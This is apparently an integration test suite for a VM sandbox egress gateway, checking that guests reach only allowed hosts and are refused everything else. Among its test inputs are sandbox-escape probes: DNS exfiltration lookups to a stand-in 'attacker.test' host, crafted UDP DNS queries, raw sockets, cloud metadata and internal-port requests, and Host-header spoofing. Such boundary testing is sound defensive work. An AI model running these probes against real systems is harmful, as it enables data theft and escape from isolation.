package dev.sallyport.it.control;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.junit.jupiter.api.Timeout;

/**
 * Where a real guest comes to, and where not, whatever it tries, in a machine inside this one whose gate is a real one. Two
 * accounts have a VM each. Needs root, what the driver needs, and an image in {@code TEST_SANDBOX_IMAGE}.
 */
@Timeout(600)
@TestInstance(Lifecycle.PER_CLASS)
abstract class SandboxBoundsSuite {

    private static final String SECRET = "s3cr3t-of-the-origin";

    private ScenarioMachine machine;
    private ScenarioGuests guests;

    /** Of the account that comes last, which is the one of all calls. */
    private String vm;

    private String other;

    /** The driver whose guests they are. */
    abstract String driver();

    @BeforeAll
    void open() throws Exception {
        machine = ScenarioMachine.open(driver());
        guests = new ScenarioGuests(machine);
        machine.signUp("first@example.com");
        other = guests.create("other");
        guests.until(other, "ready");
        guests.ssh(
                other,
                "(while :; do echo hidden | timeout 60 perl -MIO::Socket::INET -e '"
                        + "$s = IO::Socket::INET->new(LocalPort => 8000, Listen => 5, ReuseAddr => 1) or die; "
                        + "while ($c = $s->accept) { print $c \"HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nhidden\"; close $c }'"
                        + "; done) > /dev/null 2>&1 < /dev/null &");
        machine.signUp("second@example.com");
        machine.api("POST", "/v1/egress/rules", "{\"host\": \"" + SandboxMachine.API + "\"}");
        machine.api(
                "POST",
                "/v1/secrets",
                "{\"name\": \"github\", \"secret\": \"" + SECRET + "\", \"env_var\": \"GITHUB_TOKEN\", \"hosts\": [\""
                        + SandboxMachine.API + "\"]}");
        vm = guests.create("box");
        guests.until(vm, "ready");
    }

    @AfterAll
    void close() throws Exception {
        if (machine != null) {
            machine.close();
        }
    }

    /** The status with which the gate or an origin answers curl in the guest. */
    private String status(String arguments) throws Exception {
        return guests.ssh(vm, "curl -sS -m 20 -o /dev/null -w '%{http_code}' " + arguments + " 2> /dev/null")
                .strip();
    }

    @Test
    void anAllowedHostIsReachedWithThePlaceholderSwapped() throws Exception {
        String printed = guests.ssh(
                vm,
                "echo $GITHUB_TOKEN; curl -sS -m 20 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://"
                        + SandboxMachine.API + "/user");

        assertThat(printed).isEqualTo("SALLYPORT_PROXY_github\nworld at 10.99.2.1");
        assertThat(machine.world())
                .containsIgnoringCase("10.99.2.1: GET /user HTTP/1.1 authorization: Bearer " + SECRET);
    }

    /** With the variables of a login shell, and with nothing but what the guest's own stores have. */
    @Test
    void stockProgramsOfTheGuestTrustTheGate() throws Exception {
        String url = "https://" + SandboxMachine.API + "/";
        for (String before : List.of("", "env -i PATH=$PATH ")) {
            assertThat(guests.ssh(vm, before + "curl -sS -m 20 " + url))
                    .as(before)
                    .isEqualTo("world at 10.99.2.1");
            assertThat(guests.ssh(
                            vm,
                            "echo | " + before + "timeout 20 openssl s_client -verify_return_error -connect "
                                    + SandboxMachine.API + ":443 2>&1"))
                    .as(before)
                    .contains("Verify return code: 0 (ok)");
            assertThat(guests.ssh(vm, before + "timeout 20 git ls-remote " + url + "a.git 2>&1; echo $?"))
                    .as(before)
                    .isEqualTo("0\n");
            assertThat(guests.ssh(
                            vm,
                            "! command -v python3 > /dev/null || " + before
                                    + "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"" + url
                                    + "\").read())' 2>&1"))
                    .as(before)
                    .isIn("", "b'world at 10.99.2.1'\n");
            assertThat(guests.ssh(vm, "! command -v wget > /dev/null || " + before + "wget -q -O- " + url + " 2>&1"))
                    .as(before)
                    .isIn("", "world at 10.99.2.1");
        }
    }

    @Test
    void theTrustStoreKeepsWhatItHad() throws Exception {
        assertThat(guests.ssh(vm, "grep -c BEGIN /etc/ssl/certs/ca-certificates.crt")
                        .strip())
                .satisfies(count -> assertThat(Integer.parseInt(count)).isGreaterThan(100));
        assertThat(guests.ssh(vm, "update-ca-certificates 2>&1; curl -sS -m 20 https://" + SandboxMachine.API + "/"))
                .endsWith("world at 10.99.2.1");
    }

    @Test
    void theGateTellsOfItsAuthorityUnderItsReservedName() throws Exception {
        assertThat(guests.ssh(
                        vm,
                        "curl -sS -m 20 http://sallyport.internal/ca.pem | cmp - /run/sallyport-trust/ca.pem; echo $?"))
                .isEqualTo("0\n");
    }

    @Test
    void anotherNameAndItsAddressAreRefused() throws Exception {
        assertThat(status("https://" + SandboxMachine.OTHER + "/refused")).isEqualTo("403");
        assertThat(status("http://" + SandboxMachine.OTHER + "/refused")).isEqualTo("403");
        assertThat(status("http://10.99.2.2/refused")).isEqualTo("403");
        assertThat(status("--connect-to ::10.99.2.2: https://" + SandboxMachine.OTHER + "/refused"))
                .isEqualTo("403");
        assertThat(status("-H 'Host: " + SandboxMachine.API + "' --resolve " + SandboxMachine.OTHER
                        + ":443:10.99.2.2 https://" + SandboxMachine.OTHER + "/refused"))
                .as("the name of another host in the request")
                .isIn("403", "421");
        assertThat(machine.world()).doesNotContain("/refused");
    }

    @Test
    void anAllowedNameLeadsToNobodyElsesAddress() throws Exception {
        assertThat(guests.ssh(
                        vm,
                        "curl -sS -m 20 --resolve " + SandboxMachine.API + ":443:10.99.2.2 https://"
                                + SandboxMachine.API + "/"))
                .as("the gate looks the name up by itself")
                .isEqualTo("world at 10.99.2.1");
    }

    @Test
    void ipv6IsRefusedAtOnce() throws Exception {
        assertThat(guests.ssh(vm, "timeout 5 bash -c 'echo > /dev/tcp/2001:db8::1/80' 2> /dev/null; echo $?"))
                .isEqualTo("1\n");
        assertThat(guests.ssh(vm, "getent ahostsv6 " + SandboxMachine.API + " | grep -v '::ffff:'; echo end"))
                .isEqualTo("end\n");
    }

    @Test
    void namesCarryNothingOut() throws Exception {
        guests.ssh(
                vm,
                "for i in 1 2 3; do getent hosts stolen-$i.attacker.test; done; "
                        + ask("10.99.2.2", "stolen-4.attacker.test") + ask("192.0.2.53", "stolen-5.attacker.test"));

        assertThat(guests.ssh(vm, "getent hosts stolen.attacker.test")).startsWith("10.77.0.1");
        assertThat(machine.world()).doesNotContain("stolen");
    }

    /** A question to a name server of one's own choice. */
    private static String ask(String server, String name) {
        StringBuilder labels = new StringBuilder();
        for (String label : List.of(name.split("\\.", -1))) {
            labels.append("\\x%02x".formatted(label.length())).append(label);
        }
        return "printf '\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + labels
                + "\\x00\\x00\\x01\\x00\\x01' > /dev/udp/" + server + "/53; ";
    }

    @Test
    void otherTransportsAreRefusedAndCounted() throws Exception {
        long before = guests.refused(vm);

        guests.ssh(vm, "echo x > /dev/udp/10.99.2.1/443");
        long afterUdp = guests.refused(vm);
        String raw = guests.ssh(
                vm,
                "perl -MSocket -e 'socket(S, AF_INET, SOCK_RAW, 1) or do { print \"no socket\"; exit };"
                        + " send(S, \"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00\", 0, sockaddr_in(0, inet_aton(\"10.99.2.1\")));"
                        + " print \"sent\"'");

        assertThat(afterUdp).isGreaterThan(before);
        if (raw.equals("sent")) {
            assertThat(guests.refused(vm)).isGreaterThan(afterUdp);
        } else {
            assertThat(raw).isEqualTo("no socket");
        }
    }

    /** The account allows everything that it can: what is then out of reach is so for everybody. */
    @Test
    void rulesOfOnesOwnLeadNeitherToOtherGuestsNorToTheMachine() throws Exception {
        List<String> rules = new ArrayList<>();
        for (String rule : List.of(
                "{\"host\": \"*\"}", "{\"host\": \"*.test\"}", "{\"cidr\": \"0.0.0.0/0\"}", "{\"cidr\": \"::/0\"}")) {
            rules.add(machine.api("POST", "/v1/egress/rules?wait=applied", rule)
                    .path("id")
                    .asText());
        }
        try {
            assertThat(status("http://10.99.2.2/")).as("they are in force").isEqualTo("200");
            for (String place : List.of(
                    "10.77.0.2:8000", // the other account's
                    "10.77.0.1:22",
                    "10.77.0.1:8090",
                    "10.77.0.1:10080",
                    "10.77.0.1:9092",
                    "10.99.2.3:9092", // the management API
                    "10.99.2.1:10080", // the gate by another address of the machine
                    "169.254.169.254:80")) {
                assertThat(status("http://" + place + "/")).as(place).isIn("502", "403", "000");
                assertThat(guests.ssh(vm, "curl -sS -m 20 http://" + place + "/"))
                        .as(place)
                        .doesNotContain("hidden", "world", "\"data\"");
            }
            for (String name : List.of(
                    "at-127-0-0-1.test:8090",
                    "at-10-77-0-2.test:8000",
                    "at-10-77-0-1.test:8090",
                    "at-169-254-169-254.test",
                    "at-10-99-2-3.test:9092")) {
                assertThat(status("http://" + name + "/")).as(name).isEqualTo("502");
            }
        } finally {
            for (String rule : rules) {
                machine.api("DELETE", "/v1/egress/rules/" + rule + "?wait=applied", "");
            }
        }
        assertThat(status("http://10.99.2.2/")).as("they are gone").isEqualTo("403");
    }

    @Test
    void theLoopbackOfAGuestIsItsOwn() throws Exception {
        assertThat(guests.ssh(vm, "timeout 5 bash -c 'echo > /dev/tcp/127.0.0.1/8090' 2> /dev/null; echo $?"))
                .isEqualTo("1\n");
    }

    @Test
    void eachAttemptIsInTheAuditOfItsVm() throws Exception {
        guests.ssh(
                vm,
                "curl -sS -m 20 https://" + SandboxMachine.API
                        + "/audited; curl -sS -m 20 https://audited.example.test/; "
                        + "timeout 10 bash -c 'exec 3<> /dev/tcp/10.99.2.1/2525; echo HELO >&3; cat <&3'; "
                        + "timeout 10 bash -c 'exec 3<> /dev/tcp/10.99.2.7/2525'");

        assertThat(event("host=" + SandboxMachine.API)).isEqualTo(vm + " tls allowed");
        assertThat(event("host=audited.example.test")).isEqualTo(vm + " tls denied");
        assertThat(event("host=10.99.2.7")).as("nothing was said").isEqualTo(vm + " tcp denied");
        assertThat(event("host=10.99.2.1&protocol=tcp"))
                .as(machine.api("GET", "/v1/audit/egress?limit=5&vm_id=" + vm, "")
                        .toString())
                .isEqualTo(vm + " tcp denied");
        assertThat(machine.api("GET", "/v1/audit/egress?vm_id=" + other, "").path("data"))
                .as("another account's")
                .isEmpty();
    }

    /** The newest one of these. */
    private String event(String query) throws Exception {
        for (int i = 0; i < 200; i++) {
            JsonNode newest = machine.api("GET", "/v1/audit/egress?limit=1&vm_id=" + vm + "&" + query, "")
                    .at("/data/0");
            if (!newest.isMissingNode()) {
                return newest.path("vm_id").asText() + " "
                        + newest.path("protocol").asText() + " "
                        + newest.path("verdict").asText();
            }
            Thread.sleep(50);
        }
        return "none";
    }
}
